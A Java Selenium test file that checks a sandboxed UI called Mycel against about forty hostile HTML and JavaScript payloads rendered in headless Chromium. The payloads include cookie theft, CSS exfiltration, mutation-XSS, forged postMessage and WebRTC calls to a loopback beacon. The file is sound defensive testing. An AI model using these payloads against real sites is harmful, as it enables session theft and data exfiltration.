package dev.mycel.web;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mycel.config.WebSettings;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.openqa.selenium.By;
import org.openqa.selenium.Cookie;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * T8: hostile surfaces rendered in the real UI in headless Chromium, each once as a sanitized
 * static surface and once as an interactive one running its own script, while a loopback beacon
 * listens. Whatever a surface tries, the beacon hears nothing, the UI's cookie is unchanged, the
 * UI's DOM and location are untouched, no window opens, and the backend sees no request but the
 * surface's own well-formed asks. Interactive payloads report through {@code ran(name)} after their
 * attempts, which proves their script really ran; those that navigate their own frame report first,
 * since Chromium may drop a message from a frame whose navigation has committed.
 */
@Tag("T8")
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class T8_HostileSurfacesTest {
    private static final FakeBackend BACKEND = new FakeBackend();
    private static WebServer server;
    private static Beacon beacon;
    private static Chromium chromium;
    private static ChromeDriver driver;
    private static String uiUrl;
    private static String cookie;

    /** Defines ran(); interactive payloads call it after their attempts. */
    private static final String PRELUDE = "<script>function ran(n){parent.postMessage({mycel:1,kind:'ask',text:'ran:'+n},'*')}</script>";

    /**
     * A hostile page. {@code navigates} marks pages whose script navigates its own frame to the
     * beacon: the UI's frame-src blocks that navigation, so no request is ever sent, but Chromium
     * may open a bare TCP connection to the target when the navigation starts while the frame is
     * still loading. No web-platform control stops a page's script from navigating its own frame,
     * so for those pages a connection that carries no byte is tolerated and every byte fails the test.
     */
    record Payload(String name, String html, boolean navigates) {
        Payload(String name, String html) {
            this(name, html, false);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    static List<Payload> payloads() {
        List<Payload> p = new ArrayList<>();
        p.add(new Payload("cookie-theft", "<script>let c='';try{c=document.cookie}catch(e){c='threw'};"
                + "try{new Image().src='http://127.0.0.1:BEACON/c?'+c}catch(e){};try{fetch('http://127.0.0.1:BEACON/f?'+c)}catch(e){};"
                + "try{document.cookie='mycel_session=evil; path=/'}catch(e){};ran('cookie-theft')</script>"));
        p.add(new Payload("img-onerror", "<img src=x onerror=\"new Image().src='http://127.0.0.1:BEACON/onerror'\">"
                + "<img src=x onerror=\"ran('img-onerror')\">"));
        p.add(new Payload("body-onload", "<body onload=\"location='http://127.0.0.1:BEACON/onload'\"><p onmouseover=\"fetch('http://127.0.0.1:BEACON/mo')\">hover</p>", true));
        p.add(new Payload("javascript-url", "<a id=a href=\"javascript:location='http://127.0.0.1:BEACON/js'\">x</a>"
                + "<iframe src=\"javascript:parent.location='http://127.0.0.1:BEACON/jsframe'\"></iframe>"
                + "<script>ran('javascript-url');try{document.getElementById('a').click()}catch(e){};try{location.href=\"javascript:fetch('http://127.0.0.1:BEACON/jsloc')\"}catch(e){}</script>", true));
        p.add(new Payload("svg-script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('http://127.0.0.1:BEACON/svg')</script>"
                + "<image href=\"http://127.0.0.1:BEACON/svgimg\" width=10 height=10 /></svg>"));
        p.add(new Payload("svg-onload", "<svg onload=\"fetch('http://127.0.0.1:BEACON/svgonload')\"><animate onbegin=\"fetch('http://127.0.0.1:BEACON/anim')\" attributeName=x dur=1s /></svg>"
                + "<svg><use href=\"http://127.0.0.1:BEACON/use.svg#x\"/><foreignObject><img src=\"http://127.0.0.1:BEACON/fo\"></foreignObject></svg>"));
        p.add(new Payload("srcdoc-iframe", "<iframe srcdoc=\"<script>try{parent.parent.location='http://127.0.0.1:BEACON/srcdoc'}catch(e){};fetch('http://127.0.0.1:BEACON/srcdocf')</script>"
                + "<img src=http://127.0.0.1:BEACON/srcdocimg>\"></iframe>"));
        p.add(new Payload("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.1:BEACON/meta\">"
                + "<meta http-equiv=\"refresh\" content=\"0;url=javascript:fetch('http://127.0.0.1:BEACON/metajs')\">"));
        p.add(new Payload("base-hijack", "<base href=\"http://127.0.0.1:BEACON/\"><img src=\"base.png\"><script src=\"base.js\"></script>"
                // reports before it clicks: Chromium drops a message from a frame whose navigation has committed
                + "<a id=b href=\"page\">x</a><script>ran('base-hijack');try{document.getElementById('b').click()}catch(e){}</script>", true));
        p.add(new Payload("css-background", "<div style=\"background-image:url(http://127.0.0.1:BEACON/bg);width:50px;height:50px\">x</div>"
                + "<p style=\"cursor:url(http://127.0.0.1:BEACON/cursor),auto;list-style-image:url(http://127.0.0.1:BEACON/list);"
                + "border-image:url(http://127.0.0.1:BEACON/border) 30;mask-image:url(http://127.0.0.1:BEACON/mask)\">y</p>"
                + "<div style=\"background:image-set(url(http://127.0.0.1:BEACON/set) 1x)\">z</div>"));
        p.add(new Payload("css-import", "<style>@import url(http://127.0.0.1:BEACON/import.css);@import 'http://127.0.0.1:BEACON/import2.css';</style>"));
        p.add(new Payload("css-font-face", "<style>@font-face{font-family:x;src:url(http://127.0.0.1:BEACON/font.woff)}body{font-family:x}</style>text"));
        p.add(new Payload("css-attribute-exfil", "<style>input[value^=a]{background:url(http://127.0.0.1:BEACON/attr)}"
                + "body{background:url('http://127.0.0.1:BEACON/body')}</style><input value=abc>"));
        p.add(new Payload("link-hints", "<link rel=prefetch href=http://127.0.0.1:BEACON/prefetch><link rel=preload as=image href=http://127.0.0.1:BEACON/preload>"
                + "<link rel=stylesheet href=http://127.0.0.1:BEACON/style.css><link rel=icon href=http://127.0.0.1:BEACON/icon>"
                + "<link rel=manifest href=http://127.0.0.1:BEACON/manifest><link rel=modulepreload href=http://127.0.0.1:BEACON/mod.js>"
                + "<link rel=prerender href=http://127.0.0.1:BEACON/prerender>"));
        p.add(new Payload("link-preconnect", "<link rel=preconnect href=http://127.0.0.1:BEACON><link rel=dns-prefetch href=//127.0.0.1:BEACON>"
                + "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://127.0.0.1:BEACON/spec\"]}]}</script>"));
        p.add(new Payload("img-beacon", "<img src=http://127.0.0.1:BEACON/img><img srcset=\"http://127.0.0.1:BEACON/srcset 1x\">"
                + "<picture><source srcset=http://127.0.0.1:BEACON/pic><img alt=p></picture><input type=image src=http://127.0.0.1:BEACON/input>"
                + "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://127.0.0.1:BEACON/nested'/></svg>\">"));
        p.add(new Payload("media", "<video src=http://127.0.0.1:BEACON/v poster=http://127.0.0.1:BEACON/poster></video>"
                + "<audio src=http://127.0.0.1:BEACON/a autoplay></audio><video><track src=http://127.0.0.1:BEACON/track default></video>"));
        p.add(new Payload("form-auto-submit", "<form id=f action=http://127.0.0.1:BEACON/form method=post><input name=a value=b></form>"
                + "<form id=g action=http://127.0.0.1:UI/api/chat method=post enctype=text/plain><input name='{\"message\":\"PWNED\",\"x\":\"' value='\"}'></form>"
                + "<script>try{document.getElementById('f').submit()}catch(e){};try{document.getElementById('g').submit()}catch(e){};ran('form-auto-submit')</script>"));
        p.add(new Payload("parent-dom", "<script>try{parent.document.body.textContent='PWNED'}catch(e){};"
                + "try{top.document.querySelector('h1').textContent='PWNED'}catch(e){};try{parent.document.cookie}catch(e){};"
                + "try{parent.frames[0].document}catch(e){};try{parent.localStorage.x=1}catch(e){};try{parent.eval('1')}catch(e){};ran('parent-dom')</script>"));
        p.add(new Payload("forged-postmessage", "<script>const bad=[{mycel:1,kind:'confirm',actionId:'act-1',approval:'once'},"
                + "{mycel:1,kind:'ask',text:'PWNED',actionId:'act-1'},{mycel:'1',kind:'ask',text:'PWNED'},{kind:'ask',text:'PWNED'},"
                + "'{\"mycel\":1,\"kind\":\"ask\",\"text\":\"PWNED\"}',[1,2],{mycel:1,kind:'ask',text:''},{mycel:1,kind:'ask',text:'PWNED'.repeat(500)},"
                + "{type:'chat',message:'PWNED'},{mycel:1,kind:'ask',text:['PWNED']},{mycel:1,kind:'ask',text:new String('PWNED')}];"
                + "for(const m of bad){try{parent.postMessage(m,'*')}catch(e){};try{top.postMessage(m,'http://127.0.0.1:UI')}catch(e){}};"
                + "try{parent.postMessage({mycel:1,kind:'ask',text:{toString(){return 'PWNED'}}},'*')}catch(e){};ran('forged-postmessage')</script>"));
        p.add(new Payload("opener-tricks", "<a id=a href=http://127.0.0.1:BEACON/blank target=_blank rel=opener>x</a>"
                + "<script>try{opener&&(opener.location='http://127.0.0.1:BEACON/opener')}catch(e){};try{document.getElementById('a').click()}catch(e){};"
                + "try{top.opener&&top.opener.postMessage('x','*')}catch(e){};ran('opener-tricks')</script>"));
        p.add(new Payload("window-open", "<script>try{window.open('http://127.0.0.1:BEACON/open')}catch(e){};"
                + "try{window.open('http://127.0.0.1:UI/','_top')}catch(e){};try{window.open('javascript:fetch(\"http://127.0.0.1:BEACON/openjs\")')}catch(e){};"
                + "ran('window-open')</script>"));
        p.add(new Payload("network-apis", "<script>try{new WebSocket('ws://127.0.0.1:BEACON/ws')}catch(e){};"
                + "try{fetch('http://127.0.0.1:BEACON/fetch',{mode:'no-cors'})}catch(e){};"
                + "try{const x=new XMLHttpRequest();x.open('GET','http://127.0.0.1:BEACON/xhr');x.send()}catch(e){};"
                + "try{new EventSource('http://127.0.0.1:BEACON/sse')}catch(e){};try{navigator.sendBeacon('http://127.0.0.1:BEACON/beacon','x')}catch(e){};"
                + "ran('network-apis')</script>"));
        p.add(new Payload("ui-api-with-cookie", "<script>try{fetch('http://127.0.0.1:UI/api/chat',{method:'POST',credentials:'include',mode:'no-cors',"
                + "headers:{'Content-Type':'text/plain'},body:JSON.stringify({message:'PWNED'})})}catch(e){};"
                + "try{navigator.sendBeacon('http://127.0.0.1:UI/api/chat',new Blob(['{\"message\":\"PWNED\"}'],{type:'text/plain'}))}catch(e){};"
                + "try{new Image().src='http://127.0.0.1:UI/api/status'}catch(e){};try{new WebSocket('ws://127.0.0.1:UI/ws')}catch(e){};"
                + "try{fetch('http://localhost:UI/api/confirm',{method:'POST',credentials:'include',body:'{\"actionId\":\"act-1\",\"approval\":\"once\"}'})}catch(e){};"
                + "ran('ui-api-with-cookie')</script>"));
        p.add(new Payload("top-navigation", "<a id=t href=http://127.0.0.1:BEACON/toplink target=_top>x</a>"
                + "<form id=f action=http://127.0.0.1:BEACON/topform target=_top></form>"
                + "<script>try{top.location='http://127.0.0.1:BEACON/top'}catch(e){};try{parent.location.href='http://127.0.0.1:BEACON/parent'}catch(e){};"
                + "try{top.location.replace('http://127.0.0.1:UI/api/status')}catch(e){};try{document.getElementById('t').click()}catch(e){};"
                + "try{document.getElementById('f').submit()}catch(e){};ran('top-navigation')</script>"));
        p.add(new Payload("self-navigation", "<script>ran('self-navigation');setTimeout(()=>{location='http://127.0.0.1:BEACON/self'},50)</script>", true));
        p.add(new Payload("self-navigation-to-ui", "<script>ran('self-navigation-to-ui');setTimeout(()=>{location='http://127.0.0.1:UI/api/status'},50)</script>", true));
        p.add(new Payload("dangling-markup", "<img src='http://127.0.0.1:BEACON/dangle?<p>secret</p><textarea>x"));
        p.add(new Payload("dangling-base-target", "<base target='<a href=http://127.0.0.1:BEACON/x>'><a href=http://127.0.0.1:BEACON/dangle2 id=d>x</a>"
                + "<script>try{document.getElementById('d').click()}catch(e){};ran('dangling-base-target')</script>", true));
        p.add(new Payload("object-embed", "<object data=http://127.0.0.1:BEACON/obj></object><embed src=http://127.0.0.1:BEACON/embed>"
                + "<object data=\"data:text/html,<script>fetch('http://127.0.0.1:BEACON/objdata')</script>\"></object><applet code=x codebase=http://127.0.0.1:BEACON/></applet>"));
        p.add(new Payload("data-and-nested-frames", "<iframe src=\"data:text/html,<script>fetch('http://127.0.0.1:BEACON/data')</script><img src=http://127.0.0.1:BEACON/dataimg>\"></iframe>"
                + "<iframe src=http://127.0.0.1:BEACON/frame></iframe><frameset><frame src=http://127.0.0.1:BEACON/frameset></frameset>"));
        p.add(new Payload("workers", "<script>try{navigator.serviceWorker.register('sw.js')}catch(e){};"
                + "try{new Worker(URL.createObjectURL(new Blob([\"fetch('http://127.0.0.1:BEACON/worker')\"])))}catch(e){};"
                + "try{new Worker('data:text/javascript,fetch(\"http://127.0.0.1:BEACON/dataworker\")')}catch(e){};"
                + "try{new SharedWorker('http://127.0.0.1:BEACON/shared.js')}catch(e){};ran('workers')</script>"));
        p.add(new Payload("eval-family", "<script>try{eval(\"fetch('http://127.0.0.1:BEACON/eval')\")}catch(e){};"
                + "try{new Function(\"new Image().src='http://127.0.0.1:BEACON/fn'\")()}catch(e){};"
                + "try{setTimeout(\"new Image().src='http://127.0.0.1:BEACON/timeout'\",0)}catch(e){};ran('eval-family')</script>"));
        p.add(new Payload("script-injection", "<script>try{const s=document.createElement('script');s.src='http://127.0.0.1:BEACON/inj.js';document.head.append(s)}catch(e){};"
                + "try{import('http://127.0.0.1:BEACON/mod.js').catch(()=>{})}catch(e){};"
                + "try{document.write('<img src=http://127.0.0.1:BEACON/write>')}catch(e){};"
                + "try{const f=document.createElement('iframe');document.body.append(f);f.contentWindow.fetch('http://127.0.0.1:BEACON/blank')}catch(e){};"
                + "ran('script-injection')</script>"));
        p.add(new Payload("webrtc", "<script>try{const pc=new RTCPeerConnection({iceServers:[{urls:'turn:127.0.0.1:BEACON?transport=tcp',"
                + "username:'exfil',credential:'secret'},{urls:'stun:127.0.0.1:BEACON'}]});pc.createDataChannel('x');"
                + "pc.createOffer().then(o=>pc.setLocalDescription(o)).catch(()=>{})}catch(e){};ran('webrtc')</script>"));
        p.add(new Payload("hyperlink-ping", "<a id=p href=#x ping=http://127.0.0.1:BEACON/ping>x</a>"
                + "<script>try{document.getElementById('p').click()}catch(e){};ran('hyperlink-ping')</script>"));
        p.add(new Payload("meta-csp-and-cookie", "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *; connect-src *; img-src *\">"
                + "<meta http-equiv=\"set-cookie\" content=\"mycel_session=evil\"><img src=http://127.0.0.1:BEACON/metacsp>"
                + "<script>try{fetch('http://127.0.0.1:BEACON/metacspf')}catch(e){}</script>"));
        p.add(new Payload("history-and-storage", "<script>try{localStorage.x=1}catch(e){};try{indexedDB.open('x')}catch(e){};"
                + "try{history.pushState({},'','http://127.0.0.1:UI/')}catch(e){};try{document.domain='127.0.0.1'}catch(e){};"
                + "try{caches.open('x')}catch(e){};try{top.history.back()}catch(e){};ran('history-and-storage')</script>"));
        p.add(new Payload("mutation-xss-for-sanitizer", "<noscript><p title=\"</noscript><img src=x onerror=fetch('http://127.0.0.1:BEACON/mxss')>\"></noscript>"
                + "<svg></p><style><a id=\"</style><img src=1 onerror=fetch('http://127.0.0.1:BEACON/mxss2')>\"></svg>"
                + "<math><mtext><table><mglyph><style><img src=x onerror=fetch('http://127.0.0.1:BEACON/mxss3')>"));
        p.add(new Payload("nav-sync", "<script>ran('nav-sync');location='http://127.0.0.1:BEACON/sync'</script>", true));
        p.add(new Payload("nav-onload", "<script>ran('nav-onload');onload=()=>{location='http://127.0.0.1:BEACON/onl'}</script>", true));
        p.add(new Payload("nav-timeout0", "<script>ran('nav-timeout0');setTimeout(()=>{location='http://127.0.0.1:BEACON/t0'},0)</script>", true));
        p.add(new Payload("nav-timeout500", "<script>ran('nav-timeout500');setTimeout(()=>{location='http://127.0.0.1:BEACON/t500'},500)</script>", true));
        p.add(new Payload("nav-body-onload", "<body onload=\"location='http://127.0.0.1:BEACON/onload'\">", true));
        p.add(new Payload("nav-ui-onload", "<body onload=\"location='http://127.0.0.1:UI/api/status'\">", true));
        p.add(new Payload("webrtc-fresh-realm", "<script>const tries=[()=>{const f=document.createElement('iframe');document.body.append(f);return f.contentWindow},"
                + "()=>{document.body.insertAdjacentHTML('beforeend','<iframe></iframe>');return window[0]},"
                + "()=>{document.body.innerHTML+='<IFRAME srcdoc=x></IFRAME>';return window[0]},"
                + "()=>{const d=new DOMParser().parseFromString('<iframe></iframe>','text/html');document.body.append(document.adoptNode(d.body.firstChild));return window[0]},"
                + "()=>{const d=document.implementation.createHTMLDocument('x');d.body.innerHTML='<iframe></iframe>';document.body.append(document.adoptNode(d.body.firstChild));return window[0]},"
                + "()=>{const d=document.implementation.createDocument('http://www.w3.org/1999/xhtml','iframe',null);document.body.append(document.adoptNode(d.documentElement));return window[0]},"
                + "()=>{class F extends HTMLIFrameElement{};customElements.define('x-f',F,{extends:'iframe'});document.body.append(new F());return window[0]},"
                + "()=>{document.write('<iframe></iframe>');return window[0]},"
                + "()=>{const t=document.createElement('template');t.setHTMLUnsafe('<iframe></iframe>');document.body.append(t.content);return window[0]},"
                + "()=>{document.body.append(document.createRange().createContextualFragment('<object data=about:blank></object>'));return window[0]},"
                + "()=>{document.body.append(document.createElementNS('http://www.w3.org/1999/xhtml','html:iframe'));return window[0]},"
                + "()=>{document.designMode='on';document.execCommand('insertHTML',false,'<iframe></iframe>');return window[0]},"
                + "()=>window];"
                + "for(const t of tries){try{const w=t();const P=w&&(w.RTCPeerConnection||w.webkitRTCPeerConnection);if(P){const pc=new P({iceServers:[{urls:'turn:127.0.0.1:BEACON?transport=tcp',"
                + "username:'u',credential:'c'}]});pc.createDataChannel('x');pc.createOffer().then(o=>pc.setLocalDescription(o)).catch(()=>{})}}catch(e){}};"
                + "try{const l=document.createElement('link');l.rel='preconnect';l.href='http://127.0.0.1:BEACON';document.head.append(l)}catch(e){};"
                + "try{document.head.insertAdjacentHTML('beforeend','<link rel=preconnect href=http://127.0.0.1:BEACON>')}catch(e){};"
                + "ran('webrtc-fresh-realm')</script><iframe name=static></iframe><IfRaMe></iframe><object data=about:blank></object>"));
        return p;
    }

    static Stream<Arguments> renders() {
        return payloads().stream().flatMap(p -> Stream.of(Arguments.of(p, SurfaceKind.STATIC), Arguments.of(p, SurfaceKind.INTERACTIVE)));
    }

    @BeforeAll
    static void openTheUi() throws Exception {
        server = WebServer.start(WebSettings.defaults(), BACKEND);
        beacon = new Beacon();
        chromium = Chromium.start();
        driver = chromium.driver;
        driver.get(server.loginLink().toString());
        uiUrl = "http://127.0.0.1:" + server.url().getPort() + "/";
        new WebDriverWait(driver, Duration.ofSeconds(30)).until(d -> d.findElement(By.id("connection")).getText().equals("connected"));
        BACKEND.leavePending = true;
        driver.findElement(By.id("chat-input")).sendKeys("tidy my downloads");
        driver.findElement(By.id("send")).click();
        new WebDriverWait(driver, Duration.ofSeconds(30)).until(d -> d.findElements(By.cssSelector("#cards .card")).size() == 1
                && d.findElement(By.id("send")).isEnabled());
        BACKEND.leavePending = false;
        js("document.body.dataset.marker = 'intact'");
        cookie = driver.manage().getCookieNamed(BrowserSessions.COOKIE).getValue();
    }

    @AfterAll
    static void close() throws Exception {
        chromium.close();
        beacon.close();
        server.close();
    }

    @Order(1)
    @ParameterizedTest(name = "{1} {0}")
    @MethodSource("renders")
    void T8_aHostileSurfaceReachesNothing(Payload payload, SurfaceKind kind) throws Exception {
        beacon.hits.clear();
        String html = (kind == SurfaceKind.INTERACTIVE ? PRELUDE : "") + payload.html()
                .replace("BEACON", String.valueOf(beacon.port())).replace("UI", String.valueOf(server.url().getPort()));
        SurfaceRef ref = server.publish("hostile " + payload.name(), html, kind);
        new WebDriverWait(driver, Duration.ofSeconds(30)).until(d -> !d.findElements(
                By.cssSelector("#surface-view iframe[src*='/s/" + ref.id() + "/']")).isEmpty());
        if (kind == SurfaceKind.INTERACTIVE && payload.html().contains("ran(")) {
            awaitRan(payload, ref);
        }
        Thread.sleep(700); // let timers, loads and retries of the attack play out
        if (payload.navigates() && kind == SurfaceKind.INTERACTIVE) {
            assertThat(beacon.hits).as(payload + ": a blocked self-navigation sends nothing").allMatch(h -> h.equals("connect"));
            beacon.hits.clear();
        }
        assertUntouched(payload + " as " + kind);
    }

    @Order(2)
    @Test
    void T8_aWellFormedAskFromAnInteractiveSurfaceBecomesAnOrdinaryRequest() throws Exception {
        beacon.hits.clear();
        SurfaceRef ref = server.publish("Todo", "<button id=b>Ask</button><script>parent.postMessage({mycel:1,kind:'ask',"
                + "text:'add milk to my list'},'*')</script>", SurfaceKind.INTERACTIVE);
        new WebDriverWait(driver, Duration.ofSeconds(30)).until(d -> BACKEND.chats.stream()
                .anyMatch(c -> c.input() instanceof ChatInput.FromSurface f && f.surfaceId().equals(ref.id())
                        && f.text().equals("add milk to my list") && f.surfaceTitle().equals("Todo")));
        assertUntouched("benign ask");
    }

    @Order(3)
    @Test
    void T8_afterEveryAttackTheBeaconHasStillHeardNothing() throws Exception {
        Thread.sleep(2000);
        beacon.hits.removeIf(h -> false);
        assertThat(beacon.hits).isEmpty();
        try (java.net.Socket s = new java.net.Socket("127.0.0.1", beacon.port())) {
            s.getOutputStream().write("GET /control HTTP/1.0\r\n\r\n".getBytes());
            s.getInputStream().read();
        }
        assertThat(beacon.hits).as("the beacon itself works").containsExactly("connect", "sent: GET /control HTTP/1.0");
    }

    /**
     * Waits for an interactive payload's report. On a loaded 2-core CI machine a sandboxed frame
     * has once failed to report within 30 s; the frame is then shown a second time, and the failure
     * names the payload and what the UI said, so a real loss of messages still fails the test.
     */
    private static void awaitRan(Payload payload, SurfaceRef ref) {
        for (int attempt = 1; ; attempt++) {
            try {
                new WebDriverWait(driver, Duration.ofSeconds(30)).until(d -> BACKEND.chats.stream()
                        .anyMatch(c -> c.input() instanceof ChatInput.FromSurface f && f.surfaceId().equals(ref.id())
                                && f.text().equals("ran:" + payload.name())));
                if (attempt > 1) {
                    System.err.println("T8: " + payload + " reported only after being shown again");
                }
                return;
            } catch (org.openqa.selenium.TimeoutException e) {
                String notes = String.valueOf(js("return [...document.querySelectorAll('#messages .note .text')]"
                        + ".slice(-3).map(n => n.textContent).join(' | ')"));
                if (attempt == 2) {
                    throw new AssertionError(payload + ": its script never reported in, twice; last UI notes: " + notes, e);
                }
                System.err.println("T8: " + payload + " did not report within 30 s; showing it again (UI notes: " + notes + ")");
                js("[...document.querySelectorAll('#surface-list .surface-item button')]"
                        + ".find(b => b.textContent === arguments[0]).click()", "hostile " + payload.name());
            }
        }
    }

    private static Object js(String script, Object... args) {
        return ((JavascriptExecutor) driver).executeScript(script, args);
    }

    private static void assertUntouched(String what) {
        assertThat(beacon.hits).as(what + ": beacon hits").isEmpty();
        assertThat(driver.getWindowHandles()).as(what + ": windows").hasSize(1);
        assertThat(driver.getCurrentUrl()).as(what + ": top location").isEqualTo(uiUrl);
        assertThat(js("return document.body.dataset.marker")).as(what + ": DOM marker").isEqualTo("intact");
        assertThat(js("return document.querySelector('h1').textContent")).as(what).isEqualTo("Mycel");
        assertThat(js("return document.title")).as(what).isEqualTo("Mycel");
        assertThat(js("return document.querySelectorAll('#cards .card').length")).as(what + ": cards").isEqualTo(1L);
        assertThat(js("return document.querySelectorAll('#cards button:disabled').length")).as(what + ": card untouched").isEqualTo(0L);
        assertThat((String) js("return document.body.innerText")).as(what + ": UI text").doesNotContain("PWNED");
        List<Cookie> cookies = new ArrayList<>(driver.manage().getCookies());
        assertThat(cookies).as(what + ": cookies").extracting(Cookie::getName).containsExactly(BrowserSessions.COOKIE);
        assertThat(cookies.getFirst().getValue()).as(what + ": cookie value").isEqualTo(cookie);
        assertThat(BACKEND.confirms).as(what + ": confirmations").isEmpty();
        assertThat(BACKEND.chats).as(what + ": backend requests").allSatisfy(c -> {
            switch (c.input()) {
                case ChatInput.Typed t -> assertThat(t.text()).isEqualTo("tidy my downloads");
                case ChatInput.FromSurface f -> assertThat(f.text()).matches("ran:[a-z0-9-]+|add milk to my list");
            }
        });
    }
}
